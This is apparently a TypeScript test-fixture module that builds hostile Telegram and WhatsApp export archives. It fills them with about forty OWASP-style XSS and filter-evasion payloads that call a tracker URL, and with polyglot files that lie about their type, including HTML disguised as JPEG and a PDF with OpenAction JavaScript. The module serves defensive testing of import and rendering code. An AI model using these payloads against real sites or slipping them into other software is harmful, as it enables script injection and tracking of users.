// Archives as an attacker would send them: markup, scripts and addresses of trackers wherever text stands, files that lie
// about what they are. What they do if they ever run is the same everywhere: they mark the page and ask the tracker.
import { makeZip } from 'client-zip';

/** What every script of the corpus runs. */
const attack = (tracker: string): string => `globalThis.hacked=1;alert(1);fetch('${tracker}ran')`;

/** Texts after the OWASP collection of filter evasions, each of which some renderer has run or loaded. */
export function hostileTexts(tracker: string): readonly string[] {
  const run = attack(tracker);
  return [
    `<script>${run}</script>`,
    `<script src="${tracker}x.js"></script>`,
    `<img src=x onerror="${run}">`,
    `<img src="${tracker}pixel.gif">`,
    `"><svg onload="${run}">`,
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<body onload="${run}">`,
    `<details open ontoggle="${run}">`,
    `<input autofocus onfocus="${run}">`,
    `<video><source onerror="${run}"></video>`,
    `<object data="data:text/html,<script>${run}</script>"></object>`,
    `<embed src="${tracker}embed.swf">`,
    `<link rel="stylesheet" href="${tracker}style.css">`,
    `<link rel="prefetch" href="${tracker}prefetch">`,
    `<meta http-equiv="refresh" content="0;url=${tracker}refresh">`,
    `<base href="${tracker}">`,
    `<form action="${tracker}form"><button>`,
    `</style><style>*{background:url(${tracker}css)}</style>`,
    `<div style="background:url(${tracker}inline)">`,
    `@import url(${tracker}import.css);`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<template><script>${run}</script></template>`,
    `javascript:${run}`,
    `JaVaScRiPt&colon;${run}`,
    `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
    `vbscript:msgbox(1)`,
    `[link](javascript:${run})`,
    `![image](${tracker}markdown.png)`,
    `<a href="javascript:${run}">press</a>`,
    `{{constructor.constructor("${run}")()}}`,
    `\${${run}}`,
    `<%= ${run} %>`,
    `'"--></title></textarea></script><script>${run}</script>`,
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `\u202e<script>${run}</script>\u202c`,
    `<scr\u0000ipt>${run}</scr\u0000ipt>`,
    `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
    `${tracker}plain-link.gif`,
    `http://user:pass@${new URL(tracker).host}/hidden-host`,
  ];
}

const bytesOf = (text: string): Uint8Array<ArrayBuffer> => new TextEncoder().encode(text);
const withHead = (head: readonly number[], rest: string): Uint8Array<ArrayBuffer> => new Uint8Array([...head, ...bytesOf(rest)]);

/** Files whose names and bytes disagree, or whose bytes are two things at once. */
function lyingFiles(tracker: string): Readonly<Record<string, Uint8Array<ArrayBuffer>>> {
  const script = `<script>${attack(tracker)}</script>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${attack(tracker)}">${script}<image href="${tracker}svg.png"/></svg>`;
  return {
    'photos/html.jpg': bytesOf(`<!doctype html><html><body>${script}<img src="${tracker}html.png"></body></html>`),
    'photos/svg.jpg': bytesOf(svg),
    'photos/xhtml.png': bytesOf(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`),
    'photos/jpeg-html.jpg': withHead([0xff, 0xd8, 0xff, 0xe0, 0, 16], `JFIF\0<html>${script}</html>`),
    'photos/gif-script.gif': bytesOf(`GIF89a/*${script}*/=1;${attack(tracker)}`),
    'photos/bmp-script.bmp': bytesOf(`BM=1;${attack(tracker)}/*`),
    'files/page.html': bytesOf(`<!doctype html>${script}`),
    'files/picture.svg': bytesOf(`${svg}\n`),
    'files/paper.pdf': bytesOf(`%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(${attack(tracker)})>>>>endobj`),
    'files/module.js': bytesOf(attack(tracker)),
    'files/sheet.css': bytesOf(`@import url(${tracker}sheet.css)`),
    'files/voice.ogg': bytesOf(`<html>${script}</html>`),
  };
}

/** How many attachments the Telegram archive holds, and how many of them are said to be pictures; none is a whole one. */
export const lyingFileCount = 12;
export const lyingPictureCount = 6;

/** A Telegram export whose every name, text, link, caption and file name is one of the texts. */
export async function makeHostileTelegram(tracker: string): Promise<Buffer> {
  const texts = hostileTexts(tracker);
  const at = (number: number): string => texts[number % texts.length] ?? '';
  const files = lyingFiles(tracker);
  const stamp = (number: number) => ({
    date: `2024-05-01T10:${String(number % 60).padStart(2, '0')}:00`,
    date_unixtime: String(1_714_557_600 + number * 60),
  });
  const from = (number: number) => ({ from: at(number), from_id: `user${1000 + (number % texts.length)}` });
  const plain = texts.map((text, number) => ({
    id: number + 1, type: 'message', ...stamp(number), ...from(number), text,
    text_entities: [{ type: 'plain', text }], forwarded_from: at(number + 1),
    reactions: [{ type: 'emoji', count: 1, emoji: at(number + 2) }],
  })); // prettier-ignore
  const linked = texts.map((text, number) => ({
    id: number + 101, type: 'message', ...stamp(number + 60), ...from(number), text: [{ type: 'text_link', text: `linked ${number}`, href: text }],
    text_entities: [{ type: 'text_link', text: `linked ${number}`, href: text }], reply_to_message_id: number + 1,
  })); // prettier-ignore
  const media = Object.keys(files).map((path, number) => ({
    id: number + 201, type: 'message', ...stamp(number + 120), ...from(number), text: at(number), text_entities: [{ type: 'plain', text: at(number) }],
    ...(path.startsWith('photos/') ? { photo: path, width: 640, height: 480 } : { file: path, file_name: `${at(number)}.${path.split('.')[1]}`, mime_type: 'text/html' }),
    ...(path.endsWith('.ogg') ? { media_type: 'voice_message', mime_type: 'audio/ogg', duration_seconds: 3 } : {}),
  })); // prettier-ignore
  const cards = [
    { contact_information: { first_name: at(0), last_name: at(2), phone_number: at(26) } },
    { poll: { question: at(0), closed: false, total_voters: 1, answers: [{ text: at(2), voters: 1, chosen: false }] } },
    { location_information: { latitude: 1, longitude: 2 }, place_name: at(0), address: at(2) },
    { game_title: at(0), game_description: at(2), game_link: at(26) },
    { something_new: { html: at(0) } },
  ].map((facts, number) => ({ id: number + 301, type: 'message', ...stamp(number + 180), ...from(number), text: '', ...facts }));
  const services = ['edit_group_title', 'invite_members', 'unheard_of'].map((action, number) => ({
    id: number + 401, type: 'service', ...stamp(number + 200), actor: at(0), actor_id: 'user1000', action, title: at(2), members: [at(0), at(4)], text: '',
  })); // prettier-ignore
  const chat = { name: at(2), type: 'private_group', id: 77, messages: [...plain, ...linked, ...media, ...cards, ...services] };
  const entries = Object.entries(files).map(([name, input]) => ({ name, input }));
  return zip([{ name: 'result.json', input: JSON.stringify(chat, null, 1) }, ...entries]);
}

/** A WhatsApp export with the texts as senders, messages and captions, under a name that is markup. */
export async function makeHostileWhatsApp(tracker: string): Promise<Buffer> {
  const texts = hostileTexts(tracker).filter((text) => !text.includes('\u0000'));
  const clock = (number: number): string =>
    `01/05/2024, ${String(10 + Math.floor(number / 60)).padStart(2, '0')}:${String(number % 60).padStart(2, '0')}`;
  const said = texts.map(
    (text, number) => `${clock(number)} - ${number % 2 === 0 ? '<b onclick=alert(1)>Eve</b>' : 'Mallory"><img src=x>'}: ${text}\n`,
  );
  const attached = `${clock(100)} - Mallory"><img src=x>: IMG-20240501-WA0001.jpg (file attached)\n${texts[2]}\n`;
  return zip([
    { name: 'WhatsApp Chat with <img src=x onerror=alert(1)>.txt', input: said.join('') + attached },
    { name: 'IMG-20240501-WA0001.jpg', input: lyingFiles(tracker)['photos/html.jpg'] ?? new Uint8Array() },
  ]);
}

async function zip(files: readonly { readonly name: string; readonly input: string | Uint8Array<ArrayBuffer> }[]): Promise<Buffer> {
  return Buffer.from(await new Response(makeZip([...files])).arrayBuffer());
}
